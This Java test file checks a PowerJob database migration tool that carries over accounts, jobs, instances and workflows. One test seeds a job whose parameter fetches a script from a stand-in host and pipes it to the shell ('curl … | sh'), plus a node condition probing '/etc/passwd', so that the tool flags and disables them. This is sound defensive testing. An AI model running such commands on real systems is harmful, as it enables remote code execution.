package tech.powerjob.server.adopt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import javax.sql.DataSource;
import org.h2.jdbcx.JdbcConnectionPool;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tech.powerjob.domain.account.AppPassword;
import tech.powerjob.domain.account.PasswordHash;
import tech.powerjob.domain.instance.InstanceIds;
import tech.powerjob.domain.worker.Partitions;
import tech.powerjob.server.store.Schema;

class AdoptionTest {
  private static final Instant NOW = Instant.parse("2026-03-04T05:06:07Z");

  private final List<String> said = new ArrayList<>();
  private DataSource source;
  private Connection connection;
  private OriginalDatabase original;

  @BeforeEach
  void create() throws SQLException {
    source = database();
    connection = source.getConnection();
    original =
        new OriginalDatabase(connection, OriginalDatabase.Flavour.H2, "").create().accounts();
  }

  @AfterEach
  void close() throws SQLException {
    connection.close();
  }

  private static DataSource database() {
    return JdbcConnectionPool.create(
        "jdbc:h2:mem:" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1", "sa", "");
  }

  private void adopt(String... more) {
    adopt(source, more);
  }

  private void adopt(DataSource target, String... more) {
    var arguments = new ArrayList<>(List.of("--url", "jdbc:h2:mem:x", "--user", "sa"));
    arguments.addAll(List.of(more));
    said.clear();
    new Adoption(AdoptOptions.parse(arguments), source, target, NOW, Duration.ZERO, said::add)
        .run();
  }

  @Test
  void accounts_comeWithIdsPasswordsAndRoles() throws SQLException {
    adopt();

    assertThat(rows("SELECT id, code FROM namespace ORDER BY id"))
        .containsExactly("1 default_namespace", "4 shop");
    assertThat(rows("SELECT id, username, email, status FROM user_info ORDER BY id"))
        .containsExactly("7 PWJB_ADMIN ADMIN@example.com 1", "8 PWJB_mia mia@example.com 1");
    assertThat(rows("SELECT password FROM pwjb_user_info WHERE id = 8"))
        .containsExactly(OriginalDatabase.hash("mia", OriginalDatabase.USER_PASSWORD));
    assertThat(rows("SELECT user_id, scope, target, role FROM user_role ORDER BY id"))
        .containsExactly("7 666 1 40", "8 10 5 30");
    assertThat(rows("SELECT last_id FROM id_sequence WHERE name = 'app_info'"))
        .containsExactly("6");
    var plain = rows("SELECT password FROM app_info WHERE id = 6").get(0);
    assertThat(
            PasswordHash.parse(plain)
                .matches(AppPassword.ofPlain(OriginalDatabase.APP_PASSWORD).md5()))
        .isTrue();
    assertThat(rows("SELECT password FROM app_info WHERE id = 5").get(0))
        .as("nobody gets in with that")
        .startsWith("sys_encrypt_aes:");
    assertThat(said).anyMatch(line -> line.contains("Passwords of 1 applications cannot be read"));
    assertThat(said).contains("  shop-app");
  }

  @Test
  void passwordOfApplicationGiven_isHashed(@TempDir Path folder) throws Exception {
    var file = Files.writeString(folder.resolve("p"), "# known\nshop-app=a=b\n");

    adopt("--app-passwords", file.toString());

    var stored = rows("SELECT password FROM app_info WHERE id = 5").get(0);
    assertThat(PasswordHash.parse(stored).matches(AppPassword.ofPlain("a=b").md5())).isTrue();
    assertThat(said).noneMatch(line -> line.contains("cannot be read"));
  }

  @Test
  void jobsOfAllKinds_keepWhatTheyAreAndWhenTheyAreDue() throws SQLException {
    long next = NOW.plusSeconds(90).toEpochMilli();
    long passed = NOW.minusSeconds(90).toEpochMilli();
    original.job(
        11,
        "cron",
        Map.of(
            "time_expression_type",
            2,
            "time_expression",
            "0 * * * * ?",
            "next_trigger_time",
            next,
            "job_params",
            "p".repeat(5_000),
            "lifecycle",
            "{\"end\":" + NOW.plusSeconds(9_999_999).toEpochMilli() + "}",
            "tag",
            "green"));
    original.job(
        12,
        "late cron",
        Map.of(
            "time_expression_type",
            2,
            "time_expression",
            "0 * * * * ?",
            "next_trigger_time",
            passed));
    original.job(13, "rate", Map.of("time_expression_type", 3, "time_expression", "5000"));
    original.job(14, "delay", Map.of("time_expression_type", 4, "time_expression", "5000"));
    original.job(
        15,
        "off",
        Map.of("time_expression_type", 2, "time_expression", "0 0 0 * * ?", "status", 2));
    original.job(16, "gone", Map.of("status", 99));
    original.job(
        17,
        "daily",
        Map.of(
            "time_expression_type",
            11,
            "time_expression",
            "{\"interval\":10,\"startTimeOfDay\":\"00:00:00\",\"endTimeOfDay\":\"23:59:00\",\"intervalUnit\":\"MINUTES\"}",
            "next_trigger_time",
            next));
    original.job(18, "broken", Map.of("time_expression_type", 2, "time_expression", "every day"));
    original.job(
        19, "over", Map.of("time_expression_type", 2, "time_expression", "0 0 0 1 1 ? 2020"));
    original.job(20, "map-reduce", Map.of("execute_type", 3, "alarm_config", "not json"));

    adopt();

    assertThat(rows("SELECT id, status, COALESCE(next_trigger_time, 0) FROM job_info ORDER BY id"))
        .containsExactly(
            "11 1 " + next,
            "12 1 " + passed,
            "13 1 " + NOW.toEpochMilli(),
            "14 1 0",
            "15 2 0",
            "16 99 0",
            "17 1 " + next,
            "18 2 0",
            "19 2 0",
            "20 1 0");
    assertThat(
            rows(
                "SELECT partition_no, tag, concurrency, min_memory_space FROM job_info WHERE id = 11"))
        .containsExactly(Partitions.ofJob(11) + " green 5 0.5");
    assertThat(rows("SELECT LENGTH(job_params) FROM job_info WHERE id = 11"))
        .containsExactly("5000");
    assertThat(rows("SELECT execute_type, COALESCE(alarm_config, '-') FROM job_info WHERE id = 20"))
        .containsExactly("3 -");
    assertThat(rows("SELECT COUNT(*) FROM job_event WHERE who = 'takeover'")).containsExactly("10");
    assertThat(said)
        .anyMatch(line -> line.contains("job 18 'broken': its schedule 'every day' cannot be read"))
        .anyMatch(line -> line.contains("job 19 'over': it is never due again"))
        .anyMatch(line -> line.contains("alarm_config is not JSON"))
        .anyMatch(line -> line.equals("  job 12 'late cron'"));
  }

  @Test
  void zoneGiven_staysWithSchedulesOfTheClock() throws SQLException {
    original.job(11, "cron", Map.of("time_expression_type", 2, "time_expression", "0 0 8 * * ?"));
    original.job(12, "api", Map.of());

    adopt("--time-zone", "Asia/Shanghai");

    assertThat(rows("SELECT id, COALESCE(options, '-') FROM job_info ORDER BY id"))
        .containsExactly("11 {\"timeZone\":\"Asia/Shanghai\"}", "12 -");
  }

  @Test
  void instances_areHistoryOrWaitOnOrEnd() throws SQLException {
    long next = NOW.plusSeconds(30).toEpochMilli();
    original.job(
        11,
        "cron",
        Map.of(
            "time_expression_type",
            2,
            "time_expression",
            "*/30 * * * * ?",
            "next_trigger_time",
            next));
    original.job(12, "api", Map.of());
    original.job(13, "rate", Map.of("time_expression_type", 3, "time_expression", "5000"));
    original.instance(11, 1, 5, NOW.minusSeconds(60), NOW.minusSeconds(60)); // history
    original.instance(11, 2, 1, NOW, NOW.minusSeconds(25)); // made ahead, waits
    original.instance(11, 3, 1, Instant.ofEpochMilli(next), NOW.minusSeconds(5)); // not moved on
    original.instance(12, 4, 1, NOW.minusMillis(1_234), NOW.minusSeconds(2)); // asked for
    original.instance(12, 5, 3, NOW.minusSeconds(9), NOW.minusSeconds(9)); // with a worker
    original.instance(13, 6, 3, NOW.minusSeconds(99), NOW.minusSeconds(99)); // resident
    original.instance(
        12, 7, 5, NOW.minus(8, ChronoUnit.DAYS), NOW.minus(8, ChronoUnit.DAYS)); // old
    original.instance(99, 8, 4, NOW.minusSeconds(9), NOW.minusSeconds(9)); // of a job that is gone

    adopt();

    var found = new LinkedHashMap<String, String>();
    for (var row :
        rows(
            "SELECT instance_params, status, trigger_type, COALESCE(due_time, 0),"
                + " COALESCE(deadline, 0) FROM instance_info ORDER BY instance_params")) {
      found.put(row.split(" ")[0], row.substring(row.indexOf(' ') + 1));
    }
    long now = NOW.toEpochMilli();
    assertThat(found)
        .containsEntry("n1", "5 SCHEDULE 0 0")
        .containsEntry("n2", "1 SCHEDULE " + now + " " + now)
        .containsEntry("n3", "1 SCHEDULE " + next + " " + next)
        .containsEntry("n4", "1 API 0 " + (now - 1_234))
        .containsEntry("n5", "4 API 0 0")
        .containsEntry("n6", "10 API 0 0")
        .containsEntry("n8", "4 API 0 0")
        .doesNotContainKey("n7");
    assertThat(rows("SELECT result FROM instance_info WHERE instance_params = 'n5'"))
        .containsExactly(AdoptedHistory.UNKNOWN_END);
  }

  @Test
  void suspiciousJobs_areFlaggedAndDisabledIfAsked() throws SQLException {
    original.job(
        11,
        "sync_health_a1B2c3D4",
        Map.of("time_expression_type", 2, "time_expression", "0 * * * * ?"));
    original.job(
        12,
        "script",
        Map.of(
            "processor_info",
            "tech.powerjob.official.processors.impl.script.ShellProcessor",
            "job_params",
            "curl http://198.51.100.7/x | sh"));
    original.job(13, "old script", Map.of("processor_type", 3, "processor_info", "import os"));
    original.job(14, "fine", Map.of("job_params", "https://example.com/report"));
    original.job(
        15,
        "nightly",
        Map.of(
            "time_expression_type",
            2,
            "time_expression",
            "0 0 3 * * ?",
            "processor_info",
            "tech.powerjob.official.processors.impl.script.ShellProcessor",
            "job_params",
            "ls /var"));

    adopt("--dry-run");
    assertThat(said)
        .anyMatch(
            line ->
                line.contains("job 11 'sync_health_a1B2c3D4' of application 6: its name is like"))
        .anyMatch(
            line ->
                line.contains("job 12")
                    && line.contains("for whoever calls it by API; its script fetches"))
        .anyMatch(line -> line.contains("job 13") && line.contains("for whoever calls it by API"))
        .noneMatch(line -> line.contains("job 14") || line.contains("job 15"));

    adopt("--disable-suspicious");
    assertThat(rows("SELECT id, status FROM job_info ORDER BY id"))
        .containsExactly("11 2", "12 2", "13 2", "14 1", "15 1");
  }

  @Test
  void workflows_comeWithTheirNodesAndWhenTheyAreDue() throws SQLException {
    long passed = NOW.minusSeconds(90).toEpochMilli();
    original.job(11, "load", Map.of());
    original.workflow(
        21,
        "nightly",
        "{\"edges\":[{\"from\":31,\"to\":32}],\"nodes\":[{\"nodeId\":31,\"nodeType\":1},{\"nodeId\":32,\"nodeType\":1}]}",
        Map.of(
            "time_expression_type",
            2,
            "time_expression",
            "0 * * * * ?",
            "next_trigger_time",
            passed));
    original.node(31, 21, 1, 11L, "first", "p");
    original.node(32, 21, 1, 11L, "second", null);
    original.node(33, 0, 1, 11L, "unbound", null);

    adopt();

    assertThat(rows("SELECT id, app_id, status, next_trigger_time, version FROM workflow_info"))
        .containsExactly("21 6 1 " + passed + " 1");
    assertThat(
            rows("SELECT id, workflow_id, enable, node_name FROM workflow_node_info ORDER BY id"))
        .containsExactly("31 21 1 first", "32 21 1 second");
    assertThat(rows("SELECT graph FROM workflow_version WHERE workflow_id = 21").get(0))
        .contains("\"name\":\"first\"", "\"from\":31");
    assertThat(rows("SELECT last_id FROM id_sequence WHERE name = 'workflow_node_info'"))
        .containsExactly("32");
    assertThat(rows("SELECT wf_name FROM pj51_workflow_info")).containsExactly("nightly");
    assertThat(said).contains("  workflow 21 'nightly'");
  }

  @Test
  void workflowThatCannotRunHere_comesDisabledAndSaysWhy() throws SQLException {
    original.job(11, "load", Map.of());
    original.job(12, "foreign", Map.of("app_id", 5L));
    original.workflow(21, "torn", "{\"nodes\":[{\"nodeId\":99}],\"edges\":[]}", Map.of());
    original.workflow(22, "abroad", "{\"nodes\":[{\"nodeId\":31}],\"edges\":[]}", Map.of());
    original.node(31, 22, 1, 12L, "elsewhere", null);
    original.workflow(
        23,
        "scripted",
        "{\"nodes\":[{\"nodeId\":32},{\"nodeId\":33},{\"nodeId\":34}],\"edges\":["
            + "{\"from\":32,\"to\":33,\"property\":\"true\"},"
            + "{\"from\":32,\"to\":34,\"property\":\"false\"}]}",
        Map.of());
    original.node(32, 23, 2, null, "which", "new File('/etc/passwd').exists()");
    original.node(33, 23, 1, 11L, "yes", null);
    original.node(34, 23, 1, 11L, "no", null);

    adopt();

    assertThat(rows("SELECT id, status, version FROM workflow_info ORDER BY id"))
        .containsExactly("21 2 0", "22 2 1", "23 2 1");
    assertThat(said)
        .anyMatch(line -> line.contains("the condition of its node 32 (which) cannot run here"));
    assertThat(said).contains("  workflow 21 'torn': its node 99 is gone; it comes disabled");
    assertThat(said).anyMatch(line -> line.contains("runs job 12 of application 5"));
  }

  @Test
  void dryRun_changesNothing() throws SQLException {
    original.job(11, "api", Map.of());
    var before = content();

    adopt("--dry-run");

    assertThat(content()).isEqualTo(before);
    assertThat(said).contains("Nothing was changed: this was a dry run.");
  }

  @Test
  void inPlace_keepsFormerTablesAndLeavesOthersAlone() throws SQLException {
    original.job(11, "api", Map.of());
    original.insert("container_info", Map.of("id", 1L, "app_id", 6L, "container_name", "c"));

    adopt();

    assertThat(rows("SELECT job_name FROM pj51_job_info")).containsExactly("api");
    assertThat(rows("SELECT container_name FROM container_info")).containsExactly("c");
    assertThat(said).anyMatch(line -> line.contains("1  container_info: left as they are"));
    Schema.migrate(source); // As the server does when it starts.
    adopt();
    assertThat(said)
        .containsExactly("This database has been taken over already; there is nothing to do.");
  }

  @Test
  void intoAnotherDatabase_leavesTheFormerOneAlone() throws SQLException {
    original.job(11, "api", Map.of());
    var before = content();
    var target = database();

    adopt(target, "--into", "jdbc:h2:mem:y");

    assertThat(content()).isEqualTo(before);
    try (var to = target.getConnection()) {
      assertThat(rows(to, "SELECT job_name FROM job_info")).containsExactly("api");
    }
  }

  @Test
  void tablesWithPrefix_areFoundAndStay() throws SQLException {
    source = database();
    connection.close();
    connection = source.getConnection();
    original =
        new OriginalDatabase(connection, OriginalDatabase.Flavour.H2, "pj_").create().accounts();
    original.job(11, "api", Map.of());

    assertThatThrownBy(this::adopt).hasMessageContaining("--table-prefix");
    adopt("--table-prefix", "pj_");

    assertThat(rows("SELECT job_name FROM job_info")).containsExactly("api");
    assertThat(rows("SELECT job_name FROM pj_job_info")).containsExactly("api");
  }

  @Test
  void brokenOffAnywhere_isFinishedByTheNextTry() throws SQLException {
    original.job(11, "api", Map.of());
    for (int i = 0; i < 2_500; i++) {
      original.instance(11, i, 5, NOW.minusSeconds(60), NOW.minusSeconds(60));
    }
    var expected = 0;
    // Fails later and later until nothing fails any more.
    for (int step = 1; step < 1_000; step++) {
      var failing = new FailingDataSource(source, step);
      try {
        said.clear();
        new Adoption(
                AdoptOptions.parse(List.of("--url", "jdbc:h2:mem:x", "--user", "sa")),
                failing,
                failing,
                NOW,
                Duration.ZERO,
                said::add)
            .run();
        break;
      } catch (AdoptException | org.flywaydb.core.api.FlywayException e) {
        assertThat(e).hasMessageContaining("on purpose");
        expected++;
      }
    }
    assertThat(expected).isGreaterThan(5);
    assertThat(rows("SELECT COUNT(*) FROM instance_info")).containsExactly("2500");
    assertThat(rows("SELECT COUNT(*) FROM job_info")).containsExactly("1");
    assertThat(rows("SELECT COUNT(*) FROM app_info")).containsExactly("2");
  }

  @Test
  void livingOriginal_isRefused() throws SQLException {
    original.insert("server_info", Map.of("id", 2L, "ip", "10.1.1.2"));
    var options = AdoptOptions.parse(List.of("--url", "jdbc:h2:mem:x", "--user", "sa"));
    // Its heartbeat comes between the two looks.
    var beating = new BeatingDataSource(source);

    assertThatThrownBy(
            () ->
                new Adoption(options, beating, beating, NOW, Duration.ofMillis(1), said::add).run())
        .isInstanceOf(AdoptException.class)
        .hasMessageContaining("10.1.1.2 works on this database");
    var dry = AdoptOptions.parse(List.of("--url", "jdbc:h2:mem:x", "--user", "sa", "--dry-run"));
    new Adoption(dry, beating, beating, NOW, Duration.ofMillis(1), said::add).run();
    assertThat(said).contains("A PowerJob server at 10.1.1.2 works on this database.");
  }

  @Test
  void usedOrForeignDatabases_areRefused() throws SQLException {
    var ours = database();
    Schema.migrate(ours);
    try (var to = ours.getConnection();
        var insert = to.createStatement()) {
      insert.execute("INSERT INTO app_info (id, app_name) VALUES (1, 'x')");
    }
    assertThatThrownBy(() -> adopt(ours, "--into", "jdbc:h2:mem:y"))
        .hasMessageContaining("app_info has 1 rows");
    try (var to = ours.getConnection();
        var insert = to.createStatement()) {
      insert.execute("DELETE FROM app_info");
      insert.execute(
          "INSERT INTO server_info (ip, brokers, incarnation, active_from, expires_at, gmt_create,"
              + " gmt_modified) VALUES ('10.2.2.2', '', 1, 1, "
              + NOW.plusSeconds(5).toEpochMilli()
              + ", CURRENT_TIMESTAMP, CURRENT_TIMESTAMP)");
    }
    assertThatThrownBy(() -> adopt(ours, "--into", "jdbc:h2:mem:y"))
        .hasMessageContaining("a server at 10.2.2.2 works on the database");

    source = database();
    assertThatThrownBy(this::adopt).hasMessageContaining("has no tables of PowerJob 5.1");
    source = ours;
    assertThatThrownBy(this::adopt).hasMessageContaining("of a server of this release");
  }

  @Test
  void idsOfBothReleases_doNotMeet() {
    assertThat(new InstanceIds(3).next(NOW)).isGreaterThan(InstanceIds.firstOf(NOW.minusMillis(1)));
  }

  private List<String> rows(String sql) throws SQLException {
    return rows(connection, sql);
  }

  private static List<String> rows(Connection connection, String sql) throws SQLException {
    try (var select = connection.prepareStatement(sql);
        var rows = select.executeQuery()) {
      var found = new ArrayList<String>();
      while (rows.next()) {
        var row = new ArrayList<String>();
        for (int i = 1; i <= rows.getMetaData().getColumnCount(); i++) {
          row.add(rows.getString(i));
        }
        found.add(String.join(" ", row));
      }
      return found;
    }
  }

  /** Everything in the database. */
  private String content() throws SQLException {
    return String.join("\n", rows("SCRIPT"));
  }

  /** Moves the heartbeat of a server on whenever it is read. */
  private static final class BeatingDataSource extends WatchedDataSource {
    private long beats;

    BeatingDataSource(DataSource real) {
      super(real);
    }

    @Override
    void before(Connection connection, String sql) throws SQLException {
      if (sql.startsWith("SELECT * FROM server_info")) {
        try (var update =
            connection.prepareStatement("UPDATE server_info SET gmt_modified = ? WHERE id = 2")) {
          update.setObject(1, LocalDateTime.now(ZoneOffset.UTC).plusSeconds(++beats));
          update.executeUpdate();
        }
      }
    }
  }

  /** Fails at the given statement of those that change something. */
  private static final class FailingDataSource extends WatchedDataSource {
    private int left;

    FailingDataSource(DataSource real, int failAt) {
      super(real);
      left = failAt;
    }

    @Override
    void before(Connection connection, String sql) throws SQLException {
      if (sql.stripLeading().matches("(?is)(CREATE|ALTER|DROP|INSERT|UPDATE|DELETE)\\b.*")
          && --left == 0) {
        throw new SQLException("on purpose, at: " + sql);
      }
    }
  }
}
